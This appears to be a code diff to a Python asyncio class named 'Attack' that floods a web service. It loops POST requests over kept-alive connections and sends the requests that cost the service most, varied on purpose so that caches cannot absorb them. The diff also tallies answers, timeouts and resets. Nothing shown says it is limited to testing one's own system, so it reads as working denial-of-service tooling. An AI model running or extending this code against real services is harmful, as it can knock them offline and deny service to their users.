@@ -127,8 +127,8 @@ class Attack:
         try:
             while True:
                 writer.write(b"POST " + path + b" HTTP/1.1\r\n" + _KEEP + b"Content-Length: 0\r\n\r\n")
-                self.done[f"post {await _answer(reader)}"] += 1
                 stand.stands()
+                self.done[f"post {await _answer(reader)}"] += 1
                 await asyncio.sleep(_PAUSE)
         finally:
             writer.close()
@@ -136,18 +136,20 @@ class Attack:
     async def _expensive(self) -> None:
         """One of the calls that cost the service most, each at another address, so that no cache has it."""
         number = next(self._numbers)
-        table = self.tables[number % len(self.tables)]
+        table, path = self.tables[number % len(self.tables)], _EXPENSIVE[number % len(_EXPENSIVE)]
+        writer = None
         try:
             async with asyncio.timeout(_PATIENCE):
                 reader, writer = await self._connection()
-                writer.write(f"GET {_EXPENSIVE[number % len(_EXPENSIVE)]}".format(table=table, n=number).encode()
-                    + b" HTTP/1.1\r\nAccept: text/html\r\n" + _KEEP + b"\r\n")  # fmt: skip
-                self.done[f"call {await _answer(reader)}"] += 1
-                self._idle.append((reader, writer))
-        except TimeoutError:
-            self.done["call not answered"] += 1
-        except (OSError, asyncio.IncompleteReadError):
-            self.done["call refused or reset"] += 1
+                request = f"GET {path.format(table=table, n=number)} HTTP/1.1\r\nAccept: text/html\r\n".encode()
+                writer.write(request + _KEEP + b"\r\n")
+                status = await _answer(reader)
+            self.done[f"call {status}"] += 1
+            self._idle.append((reader, writer))
+        except (OSError, asyncio.IncompleteReadError) as error:
+            self.done["call not answered" if isinstance(error, TimeoutError) else "call reset"] += 1
+            if writer is not None:
+                writer.close()
 
     async def _connection(self) -> _Streams:
         while self._idle:
